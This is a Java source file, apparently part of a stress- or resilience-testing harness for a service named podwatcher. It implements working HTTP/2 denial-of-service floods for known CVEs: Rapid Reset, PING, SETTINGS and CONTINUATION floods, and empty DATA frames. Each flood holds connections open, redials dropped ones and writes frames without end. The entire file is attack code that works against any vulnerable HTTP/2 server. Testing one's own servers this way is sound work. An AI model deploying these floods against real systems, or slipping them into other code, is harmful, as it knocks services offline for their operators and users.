package io.podwatcher.attack.client;

import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2Flags;
import io.netty.handler.codec.http2.Http2FrameTypes;
import io.netty.handler.codec.http2.Http2Settings;
import io.podwatcher.attack.Attackers;
import java.util.Locale;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/**
 * Frames that cost the server more than the client, as fast as the server takes them. A connection that is closed is
 * opened again.
 */
public enum Http2Flood implements Attack {
    /** Each stream is reset as soon as it is opened (CVE-2023-44487). */
    RAPID_RESET {
        @Override
        void write(Http2Client client, ChannelHandlerContext context) {
            int stream = client.request(context, Http2Client.get("/pods", 0));
            client.frames().writeRstStream(context, stream, Http2Error.CANCEL.code(), context.newPromise());
        }
    },

    /** Pings, each of which is to be answered (CVE-2019-9512). */
    PING {
        @Override
        void write(Http2Client client, ChannelHandlerContext context) {
            client.frames().writePing(context, false, 1, context.newPromise());
        }
    },

    /** Settings, each of which is to be acknowledged (CVE-2019-9515). */
    SETTINGS {
        @Override
        void write(Http2Client client, ChannelHandlerContext context) {
            client.frames().writeSettings(context, new Http2Settings().initialWindowSize(1), context.newPromise());
        }
    },

    /** A head that never ends (CVE-2024-27316). */
    CONTINUATION {
        @Override
        void write(Http2Client client, ChannelHandlerContext context) {
            client.frames()
                    .writeFrame(
                            context,
                            Http2FrameTypes.CONTINUATION,
                            1,
                            new Http2Flags(),
                            Http2Client.get("/pod", 1_000).skipBytes(20),
                            context.newPromise());
        }

        @Override
        void begin(Http2Client client, ChannelHandlerContext context) {
            client.frames()
                    .writeFrame(
                            context,
                            Http2FrameTypes.HEADERS,
                            client.nextStream(),
                            new Http2Flags(),
                            Http2Client.get("/pod", 1),
                            context.newPromise());
        }
    },

    /** Empty data, which fills no window (CVE-2019-9518). */
    EMPTY_DATA {
        @Override
        void write(Http2Client client, ChannelHandlerContext context) {
            client.frames().writeData(context, 1, Unpooled.EMPTY_BUFFER, 0, false, context.newPromise());
        }

        @Override
        void begin(Http2Client client, ChannelHandlerContext context) {
            client.frames()
                    .writeFrame(
                            context,
                            Http2FrameTypes.HEADERS,
                            client.nextStream(),
                            new Http2Flags().endOfHeaders(true),
                            Http2Client.get("/pod?ip=10.99.0.1", 0),
                            context.newPromise());
        }
    };

    private static final int CONNECTIONS = 4;
    private static final int AT_ONCE = 100;
    private static final int DIALS_PER_SECOND = 50;

    @Override
    public String toString() {
        return "a flood of " + name().toLowerCase(Locale.ROOT).replace('_', ' ');
    }

    /** One of the frames. */
    abstract void write(Http2Client client, ChannelHandlerContext context);

    /** What must be sent before. */
    void begin(Http2Client client, ChannelHandlerContext context) {}

    @Override
    public AutoCloseable start(Target target, Random random) throws Exception {
        boolean reads = random.nextBoolean();
        Connections connections = Connections.http2(target);
        Pacer dialling = Pacer.perSecond(DIALS_PER_SECOND, number -> {
            if (connections.open() < CONNECTIONS) {
                connections.connect(Target.attacker(number), reads, new Flooding());
            }
        });
        Attackers attackers = new Attackers();
        attackers.add(connections);
        attackers.add(dialling);
        return attackers;
    }

    private final class Flooding extends Http2Client {

        Flooding() {
            super(new Http2Settings());
        }

        @Override
        void begin(ChannelHandlerContext context) {
            Http2Flood.this.begin(this, context);
            writeOn(context);
        }

        /** As long as the connection takes more; then some milliseconds later, and so for ever. */
        private void writeOn(ChannelHandlerContext context) {
            for (int i = 0; i < AT_ONCE && context.channel().isWritable(); i++) {
                write(this, context);
            }
            context.flush();
            if (context.channel().isActive()) {
                context.executor().schedule(() -> writeOn(context), 1, TimeUnit.MILLISECONDS);
            }
        }
    }
}
